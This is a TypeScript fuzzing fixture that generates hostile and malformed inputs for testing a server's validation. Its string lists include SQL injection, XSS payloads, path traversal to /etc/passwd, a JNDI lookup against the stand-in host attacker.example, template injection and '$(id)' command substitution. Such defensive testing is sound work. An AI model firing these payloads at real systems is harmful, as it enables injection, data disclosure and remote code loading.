import fc from 'fast-check';
import type { Schema } from './spec.js';

/** A number written verbatim into the JSON text: `1e400` parses to Infinity, which JSON.stringify cannot write. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON text of a value that may hold RawJson tokens. */
export function toJsonText(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (v instanceof RawJson) {
      raws.push(v.text);
      return `\u0001raw${raws.length - 1}\u0001`;
    }
    return v;
  });
  // The marker is written as an escape ("\u0001…"), which no JSON.stringify output of a real string holds unescaped.
  return (text ?? '').replace(/"\\u0001raw(\d+)\\u0001"/g, (_m, i: string) => raws[Number(i)] ?? 'null');
}

/** The depth the server refuses above (MAX_JSON_DEPTH 32 in src/http/storable.ts) plus margin. */
export const DEEP = 40;

export function deepObject(depth = DEEP): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = i % 2 ? { nest: value } : [value];
  return value;
}

/** 10 000 characters from an alphabet that cannot spell a stack frame or SQL text (see oracle.ts). */
const LONG = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789 '), minLength: 10_000, maxLength: 10_000 });

/** Strings a hostile or careless client sends: injection, traversal, what PostgreSQL cannot store. */
export const HOSTILE_STRINGS = [
  "' or 1=1 --",
  "'; drop table leads; --",
  '" or ""="',
  "1' union all select null, null --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '%00',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '$(id)',
  '',
  ' ',
  '\t\r\n',
  '\u202eevil',
  '\u200b',
  '😀',
  'null',
  'NaN',
  'Infinity',
  '-1',
  '1e400',
  '__proto__',
  'constructor',
  'DECAY',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  { arbitrary: LONG, weight: 1 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
);

/** Numbers at and past every boundary, some only expressible as raw JSON text. */
export const HOSTILE_NUMBERS: unknown[] = [
  -1,
  0,
  1.5,
  -0.000001,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  2 ** 63,
  1e308,
  -1e308,
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('1e-400'),
  new RawJson('123456789012345678901234567890'),
  new RawJson('-0'),
];

export const hostileNumber: fc.Arbitrary<unknown> = fc.constantFrom(...HOSTILE_NUMBERS);

function typesOf(schema: Schema): Set<string> {
  const types = new Set<string>();
  const add = (s: Schema) => {
    if (Array.isArray(s.type)) s.type.forEach((t) => types.add(t));
    else if (s.type) types.add(s.type);
    else if (s.properties) types.add('object');
  };
  add(schema);
  for (const alt of schema.anyOf ?? schema.oneOf ?? []) add(alt);
  return types;
}

const SAMPLES: Record<string, unknown[]> = {
  string: ['text', '2024-01-01', 'not-a-uuid'],
  number: [42, -7.5, 0],
  integer: [7, 0, -3],
  boolean: [true, false],
  null: [null],
  array: [[], ['x'], [1, 2]],
  object: [{}, { key: 'value' }],
};

/** Values whose JSON type the schema does not allow (a number for a string, a string for an integer…). */
export function wrongTypes(schema: Schema): unknown[] {
  const allowed = typesOf(schema);
  if (allowed.size === 0) return [];
  if (allowed.has('number')) allowed.add('integer');
  const wrong = Object.entries(SAMPLES).filter(([type]) => !allowed.has(type));
  const values = wrong.flatMap(([, samples]) => samples);
  // An integer field also gets a fraction and a numeric string; a string field a stringified number.
  if (allowed.has('integer') && !allowed.has('number')) values.push(1.5, '12');
  if (schema.enum) values.push('not-in-the-enum');
  return values;
}

/** Anything a field should not hold: a wrong type, a hostile string, a hostile number, deep nesting. */
export function wrongValue(schema: Schema): fc.Arbitrary<unknown> {
  const wrong = wrongTypes(schema);
  return fc.oneof(
    ...(wrong.length ? [{ arbitrary: fc.constantFrom(...wrong), weight: 4 }] : []),
    { arbitrary: hostileString, weight: 3 },
    { arbitrary: hostileNumber, weight: 2 },
    { arbitrary: fc.constant(deepObject()), weight: 1 },
  );
}

/** Query and path values: what a URL can carry, before encoding. */
export const HOSTILE_QUERY_VALUES = ['0', '-1', '1e12', '1e400', '9223372036854775808', '1.5', 'NaN', 'Infinity', '0x10', ' 1', 'abc', '', 'true', 'null'];

/**
 * Path segments already encoded: bad UUIDs, encodings that decode to what PostgreSQL cannot store,
 * broken percent escapes, traversal.
 */
export const HOSTILE_PATH_SEGMENTS = [
  'not-a-uuid',
  '00000000-0000-0000-0000-00000000000g',
  '00000000000000000000000000000000',
  '%7B00000000-0000-4000-8000-000000000000%7D',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '12345678-1234-1234-1234-1234567890ab%00',
  '%00',
  '%ED%A0%80',
  '%E0%A4%A',
  '%',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  '1e400',
  '-1',
  '%27%20or%201%3D1%20--',
  '%3Cscript%3E',
  '%24%7Bjndi%3Aldap%3A%2F%2Fa%7D',
  'a'.repeat(600),
];
